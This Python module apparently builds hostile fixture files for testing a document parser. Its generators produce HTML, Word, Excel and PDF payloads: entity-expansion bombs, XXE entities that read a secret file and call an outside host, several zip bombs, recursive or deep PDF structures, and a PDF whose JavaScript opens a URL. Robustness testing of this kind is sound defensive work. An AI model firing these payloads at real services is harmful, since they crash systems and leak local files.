"""Files made to harm whoever reads them: deep, huge, endless, or reaching out. Each maker gives the bytes of one."""

from __future__ import annotations

import io
import zipfile
import zlib
from collections.abc import Callable, Mapping, Sequence

Maker = Callable[[], bytes]
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELATED = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
OUTSIDE = "http://127.0.0.1:9/"
"""Stands in the files where they reach out; a test puts the address of a server of its own there."""

SECRET_FILE = "file:///the-secret-file"
"""The same for a file that is to be betrayed."""

TITLE = "某某县人民政府2022年政府信息公开工作年度报告"


# parts


def page(body: str, head: str = "") -> bytes:
    return f"<!doctype html><html><head>{head}</head><body><h1>{TITLE}</h1>{body}</body></html>".encode()


def zipped(members: Mapping[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def word(body: str, before: str = "") -> bytes:
    xml = f'<?xml version="1.0"?>{before}<w:document xmlns:w="{WORD}"><w:body>{body}</w:body></w:document>'
    return zipped({"word/document.xml": xml.encode()})


def workbook(rows: str, before: str = "", shared: str = "") -> bytes:
    return zipped(
        {
            "xl/workbook.xml": f'<workbook xmlns="{SHEET}" xmlns:r="{RELATED}"><sheets><sheet name="表" sheetId="1" '
            f'r:id="r1"/></sheets></workbook>'.encode(),
            "xl/_rels/workbook.xml.rels": b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
            b'relationships"><Relationship Id="r1" Target="worksheets/sheet1.xml" Type="'
            + f'{RELATED}/worksheet"/></Relationships>'.encode(),
            "xl/worksheets/sheet1.xml": f'<?xml version="1.0"?>{before}<worksheet xmlns="{SHEET}"><sheetData>{rows}'
            f"</sheetData></worksheet>".encode(),
            **({"xl/sharedStrings.xml": shared.encode()} if shared else {}),
        }
    )


def pdf(objects: Sequence[bytes], root: int = 1) -> bytes:
    """A PDF of these objects, numbered from 1, with a right cross-reference table."""
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, content in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<</Size %d/Root %d 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, start)
    return bytes(out)


def stream(content: bytes, entries: bytes = b"", *, packed: bool = False) -> bytes:
    if packed:
        content, entries = zlib.compress(content, 9), entries + b"/Filter/FlateDecode"
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (entries, len(content), content)


FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
TEXT = b"BT /F 10 Tf 72 700 Td (A line of text that is long enough to be taken for the text of a page) Tj ET\n"


def one_page(
    content: bytes, *, box: bytes = b"[0 0 595 842]", more: bytes = b"", others: Sequence[bytes] = ()
) -> bytes:
    """A PDF of one page; `others` are objects 6 and on, `more` goes into the page's resources."""
    return pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox%s/Contents 4 0 R/Resources<</Font<</F 5 0 R>>%s>>>>" % (box, more),
            stream(content, packed=len(content) > 10_000),
            FONT,
            *others,
        ]
    )


# HTML


def nested_tables(depth: int) -> bytes:
    return page("<table><tr><td>x</td><td>" * depth + "1" + "</td></tr></table>" * depth)


def entity_bomb(name: str) -> str:
    lines = [f'<!ENTITY a0 "{"哈" * 10}">']
    lines += [f'<!ENTITY a{level} "{f"&a{level - 1};" * 10}">' for level in range(1, 10)]
    return f"<!DOCTYPE {name} [{''.join(lines)}]>"


def html_entities() -> bytes:
    return (entity_bomb("html") + f"<html><body><h1>{TITLE}</h1><p>&a9;</p></body></html>").encode()


def wide_span() -> bytes:
    return page("<table>" + "<tr><td colspan=1000000000 rowspan=1000000000>1</td><td>2</td></tr>" * 50 + "</table>")


def million_cells() -> bytes:
    return page("<table>" + ("<tr>" + "<td>1" * 1000) * 1000 + "</table>")


def deep_boxes() -> bytes:
    return page("<div>" * 200_000 + "1")


def reaching_page() -> bytes:
    head = f'<link rel=stylesheet href="{OUTSIDE}a.css"><script src="{OUTSIDE}a.js"></script><base href="{OUTSIDE}">'
    body = f'<img src="{OUTSIDE}a.png"><iframe src="{OUTSIDE}"></iframe><object data="{SECRET_FILE}"></object>'
    return f'<!DOCTYPE html SYSTEM "{OUTSIDE}a.dtd">'.encode() + page(body + "<p>文字</p>" * 30, head)


# text


def much_text() -> bytes:
    return (TITLE + "\n" + "一、总体情况\n本年度主动公开政府信息若干条，办理申请一批。\n" * 750_000).encode()


def one_long_line() -> bytes:
    return (TITLE + "1\t" * 10_000_000).encode()


def wide_garbage() -> bytes:
    return b"\xff\xfe" + bytes(range(1, 256)) * 20_000


def lone_surrogates() -> bytes:
    return b"\xff\xfe" + b"\x00\xd8" * 200_000 + TITLE.encode("utf-16-le")


# DOCX, XLSX


def nested_word_tables(depth: int) -> bytes:
    cell = "<w:tbl><w:tr><w:tc><w:p><w:r><w:t>x</w:t></w:r></w:p></w:tc><w:tc>"
    return word(cell * depth + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * depth)


def word_entities() -> bytes:
    return word("<w:p><w:r><w:t>&a9;</w:t></w:r></w:p>", entity_bomb("w:document"))


def word_outside() -> bytes:
    before = f'<!DOCTYPE w:document SYSTEM "{OUTSIDE}a.dtd" [<!ENTITY x SYSTEM "{SECRET_FILE}"><!ENTITY y SYSTEM '
    text = f"<w:p><w:r><w:t>{TITLE} &x; &y;</w:t></w:r></w:p>"
    return word(text, before + f'"{OUTSIDE}y"><!ENTITY % z SYSTEM "{OUTSIDE}z"> %z;]>')


def sheet_outside() -> bytes:
    before = f'<!DOCTYPE worksheet [<!ENTITY x SYSTEM "{SECRET_FILE}"><!ENTITY y SYSTEM "{OUTSIDE}y">]>'
    return workbook(f'<row><c t="inlineStr"><is><t>{TITLE} &x; &y;</t></is></c></row>', before)


def sheet_entities() -> bytes:
    return workbook('<row><c t="inlineStr"><is><t>&a9;</t></is></c></row>', entity_bomb("worksheet"))


def zeros_in_word() -> bytes:
    """A gigabyte of zeros, packed into one megabyte."""
    return _bomb(word(""), "word/document.xml", b"\0")


def spaces_in_word() -> bytes:
    """A gigabyte of white space in a well-formed document."""
    return _bomb(word(""), "word/document.xml", b" ", b"</w:body></w:document>")


def zeros_in_sheet() -> bytes:
    return _bomb(workbook(""), "xl/worksheets/sheet1.xml", b"\0")


def zeros_in_strings() -> bytes:
    return _bomb(workbook("", shared=" "), "xl/sharedStrings.xml", b" ")


def _bomb(data: bytes, member: str, filling: bytes, end: bytes = b"") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            with new.open(name, "w", force_zip64=True) as target:
                content = old.read(name)
                target.write(content.removesuffix(end) if name == member else content)
                for _ in range(1000 if name == member else 0):
                    target.write(filling * 1_000_000)
                if name == member:
                    target.write(end)
    return out.getvalue()


def member_with_a_false_size() -> bytes:
    """The directory says one byte, the member has a hundred megabytes."""
    data = bytearray(zipped({"word/document.xml": b" " * 100_000_000}))
    for mark, place in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        start = data.index(mark) + place
        data[start : start + 4] = b"\x01\0\0\0"
    return bytes(data)


def many_members() -> bytes:
    return zipped({"word/document.xml": b"<a/>"} | {f"word/{number}": b"" for number in range(60_000)})


def doubled_members() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for number in range(200):
            archive.writestr(zipfile.ZipInfo("word/document.xml"), b"<a>%d</a>" % number)  # the last one counts
    return out.getvalue()


def overlapping_members() -> bytes:
    """All entries of the directory name the same compressed megabytes (a "better zip bomb")."""
    data = zipped({"word/document.xml": b" " * 50_000_000})
    start = data.index(b"PK\x01\x02")
    entry = data[start : data.index(b"PK\x05\x06")]
    entries = entry + b"".join(entry.replace(b"document", b"doc%05d" % n) for n in range(1000))
    end = b"PK\x05\x06\0\0\0\0" + (1001).to_bytes(2, "little") * 2 + len(entries).to_bytes(4, "little")
    return data[:start] + entries + end + start.to_bytes(4, "little") + b"\0\0"


def zip_in_zip() -> bytes:
    data = zipped({"a": b" " * 1_000_000})
    for _ in range(30):
        data = zipped({"word/document.xml": data, "word/media/a.zip": data})
    return data


def many_word_cells() -> bytes:
    row = "<w:tr>" + "<w:tc><w:p><w:r><w:t>1</w:t></w:r></w:p></w:tc>" * 1000 + "</w:tr>"
    return word("<w:tbl>" + row * 1000 + "</w:tbl>")


def wide_word_span() -> bytes:
    cell = '<w:tc><w:tcPr><w:gridSpan w:val="1000000000"/></w:tcPr><w:p><w:r><w:t>1</w:t></w:r></w:p></w:tc>'
    return word("<w:tbl>" + f"<w:tr>{cell}</w:tr>" * 50 + "</w:tbl>")


def far_cells() -> bytes:
    rows = "".join(f'<row r="{n}"><c r="XFD{n}"><v>1</v></c></row>' for n in (1, 500_000, 1_048_576, 99_999_999_999))
    return workbook(rows)


def many_sheet_cells() -> bytes:
    return workbook("".join(f'<row r="{n}">' + "<c><v>1</v></c>" * 1000 + "</row>" for n in range(1, 1001)))


# PDF


def million_objects() -> bytes:
    return pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[]/Count 0>>", *[b"<<>>"] * 1_000_000])


def many_pages() -> bytes:
    kids = b" ".join(b"%d 0 R" % number for number in range(3, 30_003))
    leaf = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"
    return pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[%s]/Count 30000>>" % kids, *[leaf] * 30_000])


def false_page_count() -> bytes:
    return pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 2000000000>>", b"<</Type/Page>>"])


def pages_in_a_ring() -> bytes:
    return pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[3 0 R]/Count 2/Parent 3 0 R>>",
            b"<</Type/Pages/Kids[2 0 R]/Count 2/Parent 2 0 R>>",
        ]
    )


def deep_page_tree() -> bytes:
    count = 20_000
    nodes = [b"<</Type/Pages/Kids[%d 0 R]/Count 1/Parent %d 0 R>>" % (n + 1, n - 1) for n in range(2, count)]
    return pdf([b"<</Type/Catalog/Pages 2 0 R>>", *nodes, b"<</Type/Page/Parent %d 0 R/MediaBox[0 0 9 9]>>" % count])


def xref_in_a_ring() -> bytes:
    data = one_page(TEXT)
    start = data.rindex(b"xref\n0 ")
    return data.replace(b"<</Size", b"<</Prev %d/Size" % start)


def objects_in_a_ring() -> bytes:
    return one_page(TEXT, others=[b"7 0 R", b"6 0 R"], more=b"/XObject 6 0 R/ExtGState 7 0 R")


def huge_page() -> bytes:
    return one_page(TEXT + b"0 0 m 1e9 1e9 l S", box=b"[-1e9 -1e9 1e9 1e9]")


def impossible_page() -> bytes:
    return one_page(TEXT, box=b"[0 0 0 0]")


def deep_content() -> bytes:
    return one_page(TEXT + b"q " * 1_000_000 + b"Q " * 1_000_000)


def deep_arrays() -> bytes:
    return one_page(TEXT, more=b"/X " + b"[" * 100_000 + b"]" * 100_000)


def deep_dictionaries() -> bytes:
    return one_page(TEXT, more=b"/X " + b"<</A" * 50_000 + b" 1" + b">>" * 50_000)


def form_in_itself() -> bytes:
    entries = b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<</XObject<</X 6 0 R>>>>"
    return one_page(TEXT + b"/X Do", more=b"/XObject<</X 6 0 R>>", others=[stream(b"/X Do /X Do", entries)])


def forms_doubling() -> bytes:
    """Thirty forms, each drawing the next one twice: a thousand million lines."""
    entries = b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<</XObject<</X %d 0 R>>>>"
    forms = [stream(b"/X Do /X Do", entries % number) for number in range(7, 37)]
    last = stream(b"0 0 m 9 9 l S", b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]")
    return one_page(TEXT + b"/X Do", more=b"/XObject<</X 6 0 R>>", others=[*forms, last])


def million_lines() -> bytes:
    lines = b"".join(b"%d 0 m %d 842 l S\n" % (n % 595, n % 595) for n in range(1_000_000))
    return one_page(TEXT + lines)


def dense_grid() -> bytes:
    """Lines crossing in a million cells."""
    across = b"".join(b"0 %.3f m 595 %.3f l S\n" % (n * 0.8, n * 0.8) for n in range(1000))
    down = b"".join(b"%.3f 0 m %.3f 842 l S\n" % (n * 0.59, n * 0.59) for n in range(1000))
    return one_page(TEXT + across + down)


def much_pdf_text() -> bytes:
    return one_page(
        b"BT /F 1 Tf " + b"".join(b"1 0 0 1 %d %d Tm (text) Tj\n" % (n % 590, n % 840) for n in range(200_000)) + b"ET"
    )


def packed_content() -> bytes:
    """A content stream that unpacks to half a gigabyte of white space."""
    packer = zlib.compressobj(9)
    content = packer.compress(TEXT) + b"".join(packer.compress(b" " * 1_000_000) for _ in range(500)) + packer.flush()
    packed = b"<</Filter/FlateDecode/Length %d>>stream\n%s\nendstream" % (len(content), content)
    return one_page(TEXT).replace(stream(TEXT), packed)


def long_number() -> bytes:
    return one_page(TEXT + b"1" * 1_000_000 + b" 0 m 1 1 l S")


def reaching_pdf() -> bytes:
    action = b"/OpenAction<</S/URI/URI(%s)>>/AA<</O<</S/JavaScript/JS(app.launchURL\\('%s'\\))>>>>" % (
        (OUTSIDE.encode(),) * 2
    )
    return one_page(TEXT).replace(b"/Type/Catalog", b"/Type/Catalog" + action)


LIGHT: dict[str, Maker] = {
    "tables nested 200 deep": lambda: nested_tables(200),
    "tables nested 5,000 deep": lambda: nested_tables(5000),
    "boxes nested 200,000 deep": deep_boxes,
    "entities in HTML": html_entities,
    "a span of 10^9": wide_span,
    "a page reaching out": reaching_page,
    "UTF-16 garbage": wide_garbage,
    "lone surrogates": lone_surrogates,
    "Word tables nested 200 deep": lambda: nested_word_tables(200),
    "Word tables nested 5,000 deep": lambda: nested_word_tables(5000),
    "entities in Word": word_entities,
    "entities in a sheet": sheet_entities,
    "Word reaching out": word_outside,
    "a sheet reaching out": sheet_outside,
    "a member with a false size": member_with_a_false_size,
    "doubled members": doubled_members,
    "overlapping members": overlapping_members,
    "a zip in a zip": zip_in_zip,
    "a Word span of 10^9": wide_word_span,
    "cells far away": far_cells,
    "a false page count": false_page_count,
    "pages in a ring": pages_in_a_ring,
    "a deep page tree": deep_page_tree,
    "xref in a ring": xref_in_a_ring,
    "objects in a ring": objects_in_a_ring,
    "a huge page": huge_page,
    "a page of no size": impossible_page,
    "deep arrays": deep_arrays,
    "deep dictionaries": deep_dictionaries,
    "a form in itself": form_in_itself,
    "a long number": long_number,
    "a PDF reaching out": reaching_pdf,
}
HEAVY: dict[str, Maker] = {
    "10^6 cells": million_cells,
    "50 MB of text": much_text,
    "one line of 10^7 fields": one_long_line,
    "zeros in Word": zeros_in_word,
    "spaces in Word": spaces_in_word,
    "zeros in a sheet": zeros_in_sheet,
    "spaces in shared strings": zeros_in_strings,
    "60,000 members": many_members,
    "10^6 Word cells": many_word_cells,
    "10^6 sheet cells": many_sheet_cells,
    "10^6 objects": million_objects,
    "30,000 pages": many_pages,
    "deep content": deep_content,
    "forms doubling": forms_doubling,
    "10^6 lines": million_lines,
    "a dense grid": dense_grid,
    "200,000 words on a page": much_pdf_text,
    "packed content": packed_content,
}
